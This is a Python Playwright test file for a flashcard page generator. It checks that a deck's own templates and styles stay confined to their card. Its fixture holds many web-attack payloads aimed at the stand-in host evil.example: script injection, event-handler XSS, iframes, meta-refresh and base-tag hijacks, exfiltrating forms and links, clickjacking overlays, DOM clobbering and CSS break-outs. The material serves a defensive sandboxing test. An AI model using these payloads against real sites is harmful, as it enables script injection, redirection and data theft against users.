"""A deck's own kinds and styles on the page: they show a card, and reach nothing else."""

from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from deckgen import write_page

from .conftest import listen
from .decks import loaded, write_deck

pytestmark = pytest.mark.browser

KIND = (
    "key: word\nfields:\n- {name: word, id: 1, required: true}\n- {name: more, id: 2}\ncards:\n- {name: one, id: 1}\n"
)
TRIED = """
try { parent.document.title = 'taken' } catch (e) {}
try { localStorage.setItem('taken', '1') } catch (e) {}
try { fetch('https://evil.example/fetch') } catch (e) {}
window.taken = 1; document.title = 'taken'; location = 'https://evil.example/location';
"""
FRONT = f"""
<div class="Own">{{{{word}}}}</div>
<script>{TRIED}</script><SCRIPT src="https://evil.example/script.js"></SCRIPT>
<img src=x onerror="document.title = 'taken'"><svg onload="document.title = 'taken'"><path d="M0 0"/></svg>
<iframe src="https://evil.example/frame"></iframe>
<iframe srcdoc="<script>parent.document.title = 'taken'</script>"></iframe>
<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<meta http-equiv="refresh" content="0;url=https://evil.example/meta"><base href="https://evil.example/">
<meta http-equiv=refresh content='0;url=https://evil.example/open' x=">
<link rel="stylesheet" href="https://evil.example/link"><link rel=preconnect href=https://evil.example>
<link rel=prefetch href=https://evil.example/p>
<pre><meta http-equiv="refresh" content="0;url=https://evil.example/pre"></pre>
<noscript><meta http-equiv="refresh" content="0;url=https://evil.example/noscript"></noscript>
"""
BACK = """
{{FrontSide}}<hr id=answer><p>{{more}}
<form action="https://evil.example/form" target=_top id=Form><input name=a autofocus><button>send</button></form>
<a id="Top" href="https://evil.example/top" target="_top" ping="https://evil.example/ping">top</a>
<a id="Script" href="javascript:document.title='taken'">script</a>
<a id="Cover" href="https://evil.example/cover" style="position:fixed;inset:0;z-index:99999;background:red">cover</a>
<img name="getElementById"><img name="querySelector"><b id="-Data">x</b><b id="-Query">y</b>
<label id="Label" for="-Query">z</label>
</div></div></div></article></template></noscript></section></main></body>
<h1 class="Escaped">escaped</h1><div class="Bar Escaped">bar</div>
<textarea><title><xmp>
"""
STYLE = """
@import "https://evil.example/import.css";
@font-face { font-family: X; src: url(https://evil.example/font) }
.Own { background: url(https://evil.example/url); color: rgb(1, 2, 3) }
:root, body { position: fixed; inset: 0; z-index: 99999; background: red }
html ~ *, :root + *, ~ *, + * { display: none !important }
.card { h1:not(&) { display: none !important } :root:has(&) .Masthead { display: none !important } }
:root { & ~ *, + * { display: none !important } }
@scope (html) { h1, .Masthead { display: none !important } }
@starting-style { h1 { display: none !important } }
@page { size: 1cm }
@property --Ink { syntax: "<color>"; inherits: false; initial-value: red }
@media all { @property --\\49nk { syntax: "<color>"; inherits: false; initial-value: red } }
@media all { h1, header { display: none !important } }
} h1 { display: none !important }
.a { content: "
} h1 { display: none !important } "; }
</style><style>h1 { display: none !important }</style>
.b { background: url(open
"""


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """A deck whose own kind and style try to get out."""
    folder = write_deck(
        tmp_path / "cards", "cards:\n  - {word: A word, id: w, more: More}\n  - {front: a, id: b, back: c}\n"
    )
    for name, text in {"kind.yaml": KIND, "one.front.html": FRONT, "one.back.html": BACK, "style.css": STYLE}.items():
        path = folder / "kinds" / "own" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    folder.joinpath("style.css").write_text(STYLE, encoding="utf-8")
    return folder


def looked_at(page: Page, address: str, requests: list[str]) -> None:
    """Look at all of it, and find the page as it was."""
    page.goto(f"{address}#w")
    card = page.locator("#w .card").first
    expect(card).to_contain_text("A word")
    assert card.locator(".Own").evaluate("e => getComputedStyle(e).color") == "rgb(1, 2, 3)", "the style does apply"
    heading = page.get_by_role("heading", level=1).first
    expect(heading).to_be_visible()
    expect(heading).to_have_text("Small")
    assert page.locator("#w .Escaped").count() == 0 or page.locator("#w .nt .Escaped").count() == 2
    assert page.locator("meta[http-equiv=refresh], base, iframe, object[data], embed, #w script, #w form").count() == 0
    assert heading.evaluate("e => getComputedStyle(e).color") != "rgb(255, 0, 0)"
    assert page.evaluate("[...new Set([...document.fonts].map(face => face.family))].join()") == "X"
    assert _in_front(page, "h1")
    assert _in_front(page, "#-Query")
    page.locator("#w label").first.evaluate("label => label.click()")
    assert page.evaluate("document.activeElement.id") != "-Query"
    with page.context.expect_page() as opened:
        page.locator("#w #Top").first.evaluate("link => link.click()")
    opened.value.close()
    page.locator("#-Query").fill("word")
    expect(page.locator("#w")).to_be_visible()
    page.goto(f"{address}#study/w/0")
    expect(page.locator("#-Stage")).to_be_visible()
    page.keyboard.press("Space")
    expect(page.locator("#-Stage")).to_have_attribute("data-side", "back")
    assert _in_front(page, "h1")
    assert _in_front(page, "#-Turn")
    assert page.title() == "Small"
    assert page.evaluate("window.taken === undefined && !localStorage.getItem('taken')")
    assert page.url.startswith(address)
    assert [url for url in requests if "evil" in url and not url.endswith(("/top",))] == []


def _in_front(page: Page, selector: str) -> bool:
    """Whether a click at an element's middle would reach it."""
    return bool(
        page.locator(selector).first.evaluate(
            """e => { e.scrollIntoView({ block: 'center' }); const box = e.getBoundingClientRect();
            const hit = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
            return e === hit || e.contains(hit); }"""
        )
    )


def test_on_the_page(hostile: Path, tmp_path: Path, page: Page) -> None:
    page.context.route("https://evil.example/**", lambda route: route.fulfill(body="reached"))
    requests = listen(page).requests
    _, diagnostics = write_page(loaded(hostile), tmp_path / "page.html")
    assert [d.rule for d in diagnostics].count("page-script") == 1
    looked_at(page, (tmp_path / "page.html").as_uri(), requests)


def test_without_scripts(hostile: Path, tmp_path: Path, chromium: Browser) -> None:
    write_page(loaded(hostile), tmp_path / "page.html")
    context = chromium.new_context(java_script_enabled=False)
    page = context.new_page()
    requests = listen(page).requests
    page.goto((tmp_path / "page.html").as_uri())
    page.wait_for_load_state("networkidle")
    assert [url for url in requests if not url.startswith(("file:", "data:"))] == []
    assert page.url.endswith("/page.html")
    expect(page.locator("h1").first).to_be_visible()
    expect(page.locator("footer.Foot")).to_be_visible()
    assert page.locator("body > header, body > footer, body > .Body").count() == 3
    assert page.locator("noscript article.Entry").count() == 2
    context.close()
